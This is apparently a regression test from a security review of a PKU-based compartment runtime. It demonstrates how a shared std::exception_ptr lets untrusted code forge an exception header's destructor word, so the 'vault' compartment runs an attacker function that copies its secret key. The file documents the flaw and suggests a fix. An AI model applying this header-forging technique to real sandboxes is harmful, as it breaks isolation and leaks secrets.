// Review 50, attacker model A (key-0 loads and stores, no race, no system
// call). Issue 11 put a compartment's own exceptions on its own pages, but
// an exception the default domain allocated stays in the shared heap
// (runtime/exceptions.c: with the default domain's rights, as libstdc++),
// and nothing stops it from reaching a compartment other than by
// unwinding: a std::exception_ptr passed in as an argument (an error
// handed to a library, std::promise::set_exception, a nested exception).
// When the vault holds the last reference and lets go, libstdc++ (its
// exception_ptr release, with the vault's rights) calls the destructor
// word of that exception's header, key-0 memory: the same store as
// attacks-rev25-exception-ptr.cpp, on the default domain's exception
// instead of the vault's own. Here main makes an exception_ptr
// (std::make_exception_ptr: its allocation with main's rights), hands it
// to the vault, which keeps a copy, and drops its own; then it stores the
// address of steal (a function of the program's whose address is taken
// in asm, so no gate wraps it) into the header's destructor word; the
// vault's drop runs steal with the vault's rights, which copies the
// vault's key into the program's buffer (ATTACK SUCCEEDED; seen in the
// guest 3 of 3, review 50). With "rethrow" the vault does not keep it
// but rethrows it inside itself (std::rethrow_exception: a dependent
// exception on the vault's pages whose primary is the key-0 one) and
// catches it: the end of that catch drops the last reference, with the
// same result (seen 3 of 3 too; lit stops at the first failing line, so
// only by hand while this test is expected to fail). The control stores
// nothing.
// Suggested fix: a compartment must not take references to another
// domain's exception object: in the runtime's hands, copy it in (a
// primary exception whose header is on the compartment's pages; the
// thrown object cannot be copied in general) or refuse it where a
// compartment's rights meet a header outside its own blocks (the
// runtime cannot see exception_ptr's _M_addref/_M_release, which are in
// libstdc++; __cxa_free_exception and the dependent's primary at the
// throw it can); at the least the threat model says that a compartment
// must not accept a std::exception_ptr (or anything holding one) from
// another domain.
// XFAIL: *
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 %s -o %t
// RUN: %run %t keep control | FileCheck %s --check-prefix=CONTROL
// RUN: %run %t rethrow control | FileCheck %s --check-prefix=CONTROL
// RUN: %run %t keep | FileCheck %s
// RUN: %run %t rethrow | FileCheck %s
// CONTROL: kept in the vault: 1
// CONTROL-NEXT: dropped
// CONTROL-NEXT: nothing stolen
// CHECK: kept in the vault: 1
// CHECK: headers found: 1
// CHECK: dropped
// CHECK-NOT: ATTACK SUCCEEDED
#include <bulkhead.h>
#include <exception>
#include <new>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <typeinfo>
#include "Inputs/key0-words.h"

BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";
/* A std::exception_ptr in the vault's data, without a static destructor
 * (which the default domain would run). */
BULKHEAD_DATA(vault) alignas(std::exception_ptr) unsigned char
    vault_kept_bytes[sizeof(std::exception_ptr)];
#define vault_kept (*reinterpret_cast<std::exception_ptr *>(vault_kept_bytes))
BULKHEAD_DATA(vault) int vault_seen;

extern "C" BULKHEAD_ENTRY(vault) int vault_keep(const std::exception_ptr *e) {
  new (vault_kept_bytes) std::exception_ptr(*e);
  return vault_kept != nullptr;
}
extern "C" BULKHEAD_ENTRY(vault) void vault_drop(int rethrow) {
  if (!rethrow) {
    vault_kept.~exception_ptr();
    return;
  }
  try {
    std::exception_ptr e = std::move(vault_kept);
    vault_kept.~exception_ptr();
    std::rethrow_exception(e);
  } catch (int v) {
    vault_seen = v;
  }
}

static char stolen[32];
static const char *volatile from = vault_key; /* key-0 words */
static char *volatile to = stolen;

extern "C" __attribute__((used)) void steal(void *object) {
  (void)object;
  for (int i = 0; i < 31; i++)
    to[i] = from[i];
}

/* Stores WHAT into the destructor word of every exception header in
 * key-0 writable memory; how many. */
static int forge(uintptr_t what) {
  const uint64_t gnu_cxx = 0x474e5543432b2b00; /* "GNUCC++\0", 'G' high */
  struct key0_region r[512];
  int n = 0, k = key0_regions(r, 512);
  for (int i = 0; i < k; i++)
    for (uintptr_t *w = r[i].lo + 10; w < r[i].hi; w++)
      if (*w == gnu_cxx && w[-10] == (uintptr_t)&typeid(int)) {
        w[-9] = what; /* the header's exceptionDestructor */
        n++;
      }
  return n;
}

int main(int argc, char **argv) {
  if (argc < 2)
    return 2;
  int rethrow = !strcmp(argv[1], "rethrow");
  setvbuf(stdout, NULL, _IONBF, 0);
  {
    std::exception_ptr mine = std::make_exception_ptr(7);
    printf("kept in the vault: %d\n", vault_keep(&mine));
  } /* main's reference goes: the vault's is the last */
  if (argc < 3) {
    uintptr_t p;
    __asm__("leaq steal(%%rip), %0" : "=r"(p));
    printf("headers found: %d\n", forge(p));
  }
  vault_drop(rethrow);
  puts("dropped");
  if (strstr(stolen, "TOP-SECRET")) {
    printf("ATTACK SUCCEEDED: the vault's key in the program's memory: %s\n",
           stolen);
    return 0;
  }
  puts("nothing stolen");
  return 0;
}
